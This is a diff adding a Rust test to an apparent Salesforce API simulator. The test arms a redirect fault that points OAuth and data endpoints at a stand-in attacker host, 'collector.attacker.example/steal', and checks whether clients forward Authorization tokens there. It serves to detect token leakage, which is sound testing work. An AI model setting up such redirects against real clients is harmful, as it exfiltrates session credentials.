@@ -400,3 +400,89 @@ fn audit_fields_exist_only_where_salesforce_has_them() {
         assert_eq!(r.status == 200, audited, "{object}: {}", r.body);
     }
 }
+
+#[test]
+fn a_redirect_fault_sends_the_client_to_another_host_the_sim_serves_and_logs() {
+    let sim = start();
+    let api = Api::admin(&sim);
+    let elsewhere = "https://collector.attacker.example/steal?from=acme";
+    sim.add_fault(Fault::redirect(
+        "GET",
+        "/services/oauth2/userinfo",
+        elsewhere,
+    ));
+    let r = get(
+        &sim.agent(),
+        &format!("https://{ACME}/services/oauth2/userinfo"),
+        Some(&api.sid),
+    );
+    assert_eq!(r.status, 302);
+    assert_eq!(r.header("location"), Some(elsewhere));
+    // Fired once: the next call runs.
+    let r = get(
+        &sim.agent(),
+        &format!("https://{ACME}/services/oauth2/userinfo"),
+        Some(&api.sid),
+    );
+    assert_eq!(r.status, 200);
+
+    // A client that followed it with the token would show up here: the other host is served
+    // (404) and logged with whether an Authorization header came along.
+    get(&sim.agent(), elsewhere, Some("stolen"));
+    get(&sim.agent(), elsewhere, None);
+    // It grants a browser's CORS preflight for whatever it asks, Authorization included.
+    let preflight = ureq::http::Request::builder()
+        .method("OPTIONS")
+        .uri(elsewhere)
+        .header("Origin", "chrome-extension://forcefield")
+        .header("Access-Control-Request-Method", "GET")
+        .header(
+            "Access-Control-Request-Headers",
+            "authorization,sforce-call-options",
+        )
+        .body(())
+        .unwrap();
+    let granted = sim.agent().run(preflight).unwrap();
+    assert_eq!(granted.status().as_u16(), 204);
+    let header = |name: &str| {
+        granted
+            .headers()
+            .get(name)
+            .and_then(|v| v.to_str().ok())
+            .map(str::to_owned)
+    };
+    assert_eq!(
+        header("access-control-allow-origin").as_deref(),
+        Some("chrome-extension://forcefield")
+    );
+    assert_eq!(
+        header("access-control-allow-headers").as_deref(),
+        Some("authorization,sforce-call-options")
+    );
+    let log = sim.request_log();
+    let at_collector: Vec<bool> = log
+        .iter()
+        .filter(|c| c.host == "collector.attacker.example")
+        .map(|c| c.auth_sent)
+        .collect();
+    assert_eq!(at_collector, [true, false, false]);
+    let redirected = log
+        .iter()
+        .find(|c| c.path == "/services/oauth2/userinfo")
+        .map(|c| (c.status, c.auth_sent));
+    assert_eq!(redirected, Some((302, true)));
+
+    let armed = post(
+        &sim.agent(),
+        &format!("https://127.0.0.1:{}/__sim/faults", sim.port()),
+        "application/json",
+        &format!(r#"{{"kind":"redirect","path":"/services/data/","location":"{elsewhere}"}}"#),
+    );
+    assert_eq!(armed.status, 201);
+    let r = get(
+        &sim.agent(),
+        &format!("https://{ACME}/services/data/"),
+        None,
+    );
+    assert_eq!((r.status, r.header("location")), (302, Some(elsewhere)));
+}
